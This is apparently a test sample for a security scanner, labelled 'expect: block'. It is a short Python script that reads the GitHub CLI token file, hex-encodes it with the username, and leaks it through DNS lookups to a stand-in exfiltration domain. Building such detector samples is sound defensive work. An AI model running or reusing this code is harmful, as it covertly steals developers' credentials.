# expect: block
import getpass
import socket
from pathlib import Path

token_file = Path.home() / ".config" / "gh" / "hosts.yml"
data = (getpass.getuser() + ":" + token_file.read_text()).encode().hex()

for i in range(0, len(data), 60):
    label = data[i : i + 60]
    try:
        socket.gethostbyname(f"{label}.{i}.t.exfil-dns.example.net")
    except OSError:
        pass
